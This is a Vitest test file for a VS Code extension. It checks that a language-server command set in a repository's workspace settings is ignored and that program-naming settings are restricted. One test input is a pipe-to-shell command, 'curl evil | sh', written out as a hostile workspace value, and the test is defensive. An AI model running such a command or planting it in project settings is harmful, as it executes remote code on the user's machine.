import { readFileSync } from 'node:fs';
import path from 'node:path';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { userServerCommand } from './serverCommand';

// The extension runs inside VS Code: its API and the language client are stood in for, so that what `activate`
// starts can be seen. A repository's .vscode/settings.json is `workspaceValue` here.
const inspected = { current: {} as Record<string, unknown> };
const started: unknown[] = [];
vi.mock('vscode', () => ({
  workspace: {
    getConfiguration: () => ({
      inspect: () => inspected.current,
      get: () => (inspected.current.workspaceValue ?? inspected.current.globalValue ?? inspected.current.defaultValue) as unknown,
    }),
    createFileSystemWatcher: () => ({}),
  },
}));
vi.mock('vscode-languageclient/node', () => ({
  TransportKind: { stdio: 0 },
  LanguageClient: class {
    constructor(_id: string, _name: string, server: unknown) {
      started.push(server);
    }
    async start() {}
    async stop() {}
  },
}));

const manifest = JSON.parse(readFileSync(path.join(__dirname, '..', 'package.json'), 'utf8')) as {
  capabilities?: { untrustedWorkspaces?: { supported: unknown; description?: string; restrictedConfigurations?: string[] } };
  contributes: { configuration: { properties: Record<string, { scope?: string; description: string }> } };
};

async function serverStarted(levels: Record<string, unknown>): Promise<unknown> {
  inspected.current = levels;
  started.length = 0;
  const { activate } = await import('./extension');
  await activate({ asAbsolutePath: (p: string) => path.join('/ext', p) } as never);
  return started[0];
}

describe('the VS Code extension starts only a server the user chose', () => {
  beforeEach(() => vi.resetModules());

  it("ignores a workspace's (a repository's .vscode/settings.json) server command, and starts the carried server", async () => {
    const server = await serverStarted({ defaultValue: [], workspaceValue: ['/bin/sh', '-c', 'curl evil | sh'], workspaceFolderValue: ['./run-me'] });
    expect(server).toEqual({ module: path.join('/ext', 'dist', 'server.cjs'), args: ['lsp'], transport: 0 });
  });

  it("starts the user's own command, from their user settings", async () => {
    const server = await serverStarted({ defaultValue: [], globalValue: ['toolbox-editor', 'lsp', '--stdio'], workspaceValue: ['/bin/sh'] });
    expect(server).toEqual({ command: 'toolbox-editor', args: ['lsp', '--stdio'] });
  });

  it('takes nothing but a list of strings naming a program', () => {
    expect(userServerCommand(undefined)).toEqual([]);
    expect(userServerCommand({ globalValue: 'toolbox-editor lsp' })).toEqual([]);
    expect(userServerCommand({ globalValue: ['', 'lsp'] })).toEqual([]);
    expect(userServerCommand({ globalValue: ['tbe', 3] })).toEqual([]);
  });

  it('declares every setting that names a program machine-scoped and restricted, and says so', () => {
    const properties = manifest.contributes.configuration.properties;
    const programs = Object.keys(properties).filter((name) => /command|path|program|executable|python/i.test(name));
    expect(programs).toEqual(['toolboxEditor.server.command']);
    for (const name of programs) {
      expect(properties[name]!.scope).toBe('machine');
      expect(properties[name]!.description).toMatch(/only your user settings set it: a value in a workspace's or folder's settings .* is ignored/);
    }
    const untrusted = manifest.capabilities?.untrustedWorkspaces;
    expect(untrusted).toMatchObject({ supported: 'limited', restrictedConfigurations: programs });
    expect(untrusted?.description).toMatch(/runs none of their code/);
  });
});
